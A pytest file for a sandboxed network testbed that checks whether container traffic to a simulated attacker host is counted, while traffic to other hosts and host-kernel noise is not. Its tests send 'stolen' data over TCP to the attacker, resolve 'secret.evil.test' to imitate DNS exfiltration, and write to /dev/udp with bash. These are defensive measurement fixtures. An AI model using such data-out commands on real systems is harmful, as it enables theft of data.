from collections.abc import Iterator

import pytest

from testbed import images
from testbed.engine import ThrowAwayEngine
from testbed.world import ATTACKER, ATTACKER6, OUTSIDE, RESOLVER, World


@pytest.fixture(scope="module")
def world(root: None) -> Iterator[World]:
    del root
    with ThrowAwayEngine(dns=(RESOLVER,)) as engine, World(engine) as world:
        client = engine.client()
        images.base().load(client)
        yield world
        client.close()


def probe(world: World, *arguments: str) -> str:
    client = world.engine.client()
    try:
        return client.containers.run("alpine-like/base:1", ["probe", *arguments], remove=True).decode()
    finally:
        client.close()


@pytest.mark.parametrize(("to", "kind"), [(ATTACKER, "tcp4"), (ATTACKER6, "tcp6")])
def test_every_packet_to_the_attacker_is_counted(world: World, to: str, kind: str) -> None:
    mark = world.mark()
    assert "thanks" in probe(world, "tcp", to, "443", "stolen")
    assert world.received(mark)[kind] > len("stolen")


def test_traffic_to_others_is_not_counted(world: World) -> None:
    mark = world.mark()
    assert "paid" in probe(world, "tcp", OUTSIDE, "8443", "GET /pay HTTP/1.0\r\n\r\n")
    assert not world.received(mark)


def test_names_of_the_attacker_reach_his_server_through_the_resolver(world: World) -> None:
    mark = world.mark()
    probe(world, "dns", RESOLVER, "secret.evil.test")
    assert world.attacker.wait_for(lambda event: event.kind == "dns" and event.text == "secret.evil.test", since=mark)
    assert world.received(mark)["udp4"]


def test_complaints_of_the_host_s_kernel_are_not_counted(world: World) -> None:
    mark = world.mark()
    attacker = world._namespaces[1]
    for host in ("10.215.0.1", "fd00:215::1"):
        attacker.run("bash", "-c", f"printf x >/dev/udp/{host}/99")
    assert not world.received(mark)
